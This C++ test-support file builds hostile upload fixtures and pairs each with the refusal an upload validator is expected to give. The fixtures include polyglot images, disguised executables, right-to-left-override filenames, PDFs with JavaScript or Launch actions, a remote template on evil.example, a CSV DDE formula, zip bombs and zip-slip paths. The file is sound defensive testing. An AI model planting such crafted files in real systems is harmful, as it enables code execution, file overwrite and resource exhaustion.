#include "tests/support/hostile_files.h"

#include "tests/support/made_files.h"

namespace narada::testing {
namespace {

using domain::FileRefusal;

constexpr const char* kPage = "<!DOCTYPE html><html><script>window.ran = 1</script></html>";
constexpr const char* kDocx =
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document";

std::string script_png() {
  auto png = make_png(40, 30);
  return png + kPage;
}

std::string script_gif() {
  // Also a program in JavaScript, GIF89a = 1: the width of the screen opens a comment that what
  // follows the picture closes.
  auto gif = make_gif(40, 30);
  gif[6] = '/';
  gif[7] = '*';
  return gif + "*/=1;window.ran=1;//";
}

std::string program() {
  return "MZ" + std::string(80, '\0') + "This program cannot be run in DOS mode.\r\n" +
         std::string(200, '\x90');
}

std::string action(const std::string& dictionary) {
  PdfWish wish;
  wish.catalog = "/OpenAction " + dictionary;
  return make_pdf(wish);
}

std::string nested(int depth) {
  auto inner = make_zip({{"a.txt", "a"}});
  for (int level = 0; level < depth; ++level) inner = make_zip({{"inner.zip", inner}});
  return inner;
}

std::string many_entries() {
  std::vector<ZipEntry> entries;
  for (int index = 0; index < 10'001; ++index) entries.push_back({std::to_string(index), ""});
  return make_zip(entries);
}

std::string wide_png() {
  // Says 30,000 × 30,000 pixels; a picture in memory would take 3.6 GB.
  auto png = make_png(4, 4);
  png[18] = 0x75;
  png[19] = 0x30;
  png[22] = 0x75;
  png[23] = 0x30;
  return png;
}

std::string attached(const std::string& name) {
  PdfWish wish;
  wish.catalog = "/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (" + name +
                 ") /EF << /F 6 0 R >> >>] >> >>";
  wish.objects = {"<< /Length 2 >>\nstream\nMZ\nendstream"};
  return make_pdf(wish);
}

std::string encrypted_pdf() {
  PdfWish wish;
  auto pdf = make_pdf(wish);
  const std::string entry =
      " /Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O "
      "<00112233445566778899AABBCCDDEEFF00112233445566778899AABBCCDDEEFF> /U "
      "<00112233445566778899AABBCCDDEEFF00112233445566778899AABBCCDDEEFF> >> /ID "
      "[<00112233445566778899AABBCCDDEEFF> <00112233445566778899AABBCCDDEEFF>]";
  return pdf.insert(pdf.rfind(" >>\nstartxref"), entry);
}

std::vector<HostileFile> pages_and_programs() {
  const std::string svg =
      "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>window.ran=1</script></svg>";
  return {
      {"nothing", "pusty.pdf", "", FileRefusal::empty, ""},
      {"a page as PDF", "regulamin.pdf", kPage, FileRefusal::mislabelled, ""},
      {"a page with the header of a PDF further on", "uchwala.pdf",
       std::string(kPage) + "\n" + make_pdf(), FileRefusal::mislabelled, ""},
      {"a page", "strona.html", kPage, FileRefusal::forbidden_type, ""},
      {"a page as text", "notatka.txt", kPage, FileRefusal::mislabelled, ""},
      {"a page as table", "dane.csv", kPage, FileRefusal::mislabelled, ""},
      {"a page as picture", "zdjecie.jpg", kPage, FileRefusal::mislabelled, ""},
      {"a page without extension", "strona", kPage, FileRefusal::forbidden_type, ""},
      {"a drawing with a script", "mapa.svg", svg, FileRefusal::forbidden_type, ""},
      {"a drawing with a script as picture", "mapa.png", svg, FileRefusal::mislabelled, ""},
      {"XML that a stylesheet makes a page of", "dane.xml",
       "<?xml version=\"1.0\"?><?xml-stylesheet href=\"x\"?><a/>", FileRefusal::forbidden_type, ""},
      {"a program", "setup.exe", program(), FileRefusal::forbidden_type, ""},
      {"a program as PDF", "faktura.pdf", program(), FileRefusal::mislabelled, ""},
      {"a program with two extensions", "faktura.pdf.exe", program(), FileRefusal::forbidden_type,
       ""},
      {"a program whose name reads backwards", "faktura\u202Efdp.exe", program(),
       FileRefusal::forbidden_type, ""},
      {"a program whose dot some systems drop", "faktura.exe. ", program(),
       FileRefusal::forbidden_type, ""},
      {"a script", "skrypt.js", "window.ran = 1", FileRefusal::forbidden_type, ""},
      {"a shortcut", "dokument.url", "[InternetShortcut]\nURL=file:///c:/\n",
       FileRefusal::forbidden_type, ""},
      {"a disk image", "obraz.iso", std::string(40'000, '\0'), FileRefusal::forbidden_type, ""},
      {"noise as PDF", "skan.pdf", std::string("\x93\x01\x7f\xfe\x00\x11\x12", 7),
       FileRefusal::damaged, ""},
  };
}

std::vector<HostileFile> documents() {
  return {
      {"a PDF that runs JavaScript", "a.pdf", action("<< /S /JavaScript /JS (app.alert(1)) >>"),
       FileRefusal::forbidden_type, ""},
      {"a PDF that starts a program", "a.pdf", action("<< /S /Launch /F (cmd.exe) >>"),
       FileRefusal::forbidden_type, ""},
      {"a PDF with a link that is a script", "a.pdf",
       action("<< /S /URI /URI (JavaScript:alert\\(1\\)) >>"), FileRefusal::forbidden_type, ""},
      {"a PDF with a program in it", "a.pdf", attached("setup.exe"), FileRefusal::forbidden_type,
       ""},
      {"a PDF with a password", "a.pdf", encrypted_pdf(), FileRefusal::encrypted, ""},
      {"a PDF cut off", "a.pdf", make_pdf().substr(0, 60), FileRefusal::damaged, ""},
      {"a document with macros", "a.docx",
       make_docx("x", {{"word/vbaProject.bin", "\xD0\xCF\x11\xE0"}}), FileRefusal::macros, ""},
      {"a document called one with macros", "a.docm", make_docx("x"), FileRefusal::macros, ""},
      {"a document whose template comes from elsewhere", "a.docx",
       make_docx("x", {{"word/_rels/settings.xml.rels",
                        "<Relationship Type=\"http://x/attachedTemplate\" "
                        "Target=\"http://evil.example/a.dotm\" TargetMode=\"External\"/>"}}),
       FileRefusal::macros, ""},
      {"an open document with macros", "a.odt",
       make_odt("x", {{"Basic/Standard/Module1.xml", "<script/>"}}), FileRefusal::macros, ""},
      {"an open document with a password", "a.odt",
       make_zip({{"mimetype", "application/vnd.oasis.opendocument.text"},
                 {"META-INF/manifest.xml", "<manifest:encryption-data/>"}}),
       FileRefusal::encrypted, ""},
      {"an old document with macros", "a.doc",
       make_compound_file({"Root Entry", "WordDocument", "Macros", "VBA"}), FileRefusal::macros,
       ""},
      {"a document with a password", "a.docx",
       make_compound_file({"Root Entry", "EncryptionInfo", "EncryptedPackage"}),
       FileRefusal::encrypted, ""},
      {"an old document with a password", "a.doc",
       make_compound_file({"Root Entry", "WordDocument"},
                          std::string("\xEC\xA5\xC1\0\0\0\0\0\0\0\0\x01", 12)),
       FileRefusal::encrypted, ""},
      {"a table called a document", "a.docx", make_xlsx(), FileRefusal::mislabelled, ""},
      {"rich text with an object", "a.rtf", "{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}",
       FileRefusal::forbidden_type, ""},
  };
}

std::vector<HostileFile> archives() {
  const std::string zeros(40U << 20, '\0');
  return {
      {"an archive that grows beyond measure", "a.zip", make_zip({{"0", zeros, true}}),
       FileRefusal::bomb, ""},
      {"an archive that lies about it", "a.zip",
       make_zip({{"0", zeros, true, false, 0100644, 100}}), FileRefusal::bomb, ""},
      {"a document that grows beyond measure", "a.docx",
       make_docx("x", {{"word/media/a.bin", zeros, true}}), FileRefusal::bomb, ""},
      {"archives in archives", "a.zip", nested(5), FileRefusal::bomb, ""},
      {"too many files", "a.zip", many_entries(), FileRefusal::bomb, ""},
      {"a path that climbs", "a.zip", make_zip({{"../../etc/cron.d/x", "x"}}),
       FileRefusal::unsafe_paths, ""},
      {"a path that climbs on Windows", "a.zip", make_zip({{"a\\..\\..\\x", "x"}}),
       FileRefusal::unsafe_paths, ""},
      {"a path from the root", "a.zip", make_zip({{"/etc/passwd", "x"}}), FileRefusal::unsafe_paths,
       ""},
      {"a path of a drive", "a.zip", make_zip({{"C:x", "x"}}), FileRefusal::unsafe_paths, ""},
      {"a symbolic link", "a.zip", make_zip({{"a", "/etc/passwd", false, false, 0120777}}),
       FileRefusal::unsafe_paths, ""},
      {"a program in an archive", "a.zip", make_zip({{"b/setup.exe", "x"}}),
       FileRefusal::forbidden_type, ""},
      {"a program in an archive under another name", "a.zip", make_zip({{"b.txt", program()}}),
       FileRefusal::forbidden_type, ""},
      {"macros in an archive", "a.zip",
       make_zip({{"a.docx", make_docx("x", {{"word/vbaProject.bin", "x"}})}}), FileRefusal::macros,
       ""},
      {"an archive with a password", "a.zip", make_zip({{"a", "x", false, true}}),
       FileRefusal::encrypted, ""},
      {"a program of Java", "a.zip", make_zip({{"META-INF/MANIFEST.MF", "Main-Class: A"}}),
       FileRefusal::forbidden_type, ""},
      {"a picture that would fill the memory", "a.png", wide_png(), FileRefusal::bomb, ""},
  };
}

// What cannot hurt as it is served.
std::vector<HostileFile> harmless() {
  return {
      {"a picture with a page behind it", "a.png", script_png(), {}, "image/png"},
      {"a picture that is a script too", "a.gif", script_gif(), {}, "image/gif"},
      {"a PDF with a page behind it", "a.pdf", make_pdf() + kPage, {}, "application/pdf"},
      {"a PDF that is an archive too",
       "a.pdf",
       make_pdf() + make_zip({{"a", "b"}}),
       {},
       "application/pdf"},
      {"a picture of another kind", "a.jpg", make_png(40, 30), {}, "image/png"},
      {"a description with a page in it",
       "a.md",
       std::string("# A\n") + kPage,
       {},
       "text/markdown"},
      {"data with a page in it",
       "a.json",
       "{\"a\": \"<script>window.ran=1</script>\"}",
       {},
       "application/json"},
      {"a table with a formula", "a.csv", "a,b\n=cmd|'/c calc'!A1,2\n", {}, "text/csv"},
      {"a name of 300 characters", std::string(296, 'n') + ".txt", "tekst", {}, "text/plain"},
      {"a name with everything", "\u202Ea\"b;c\\d/e\r\nf.docx", make_docx("x"), {}, kDocx},
  };
}

}  // namespace

const std::vector<HostileFile>& hostile_files() {
  static const std::vector<HostileFile> all = [] {
    std::vector<HostileFile> files;
    for (auto part : {pages_and_programs(), documents(), archives(), harmless()})
      files.insert(files.end(), part.begin(), part.end());
    return files;
  }();
  return all;
}

}  // namespace narada::testing
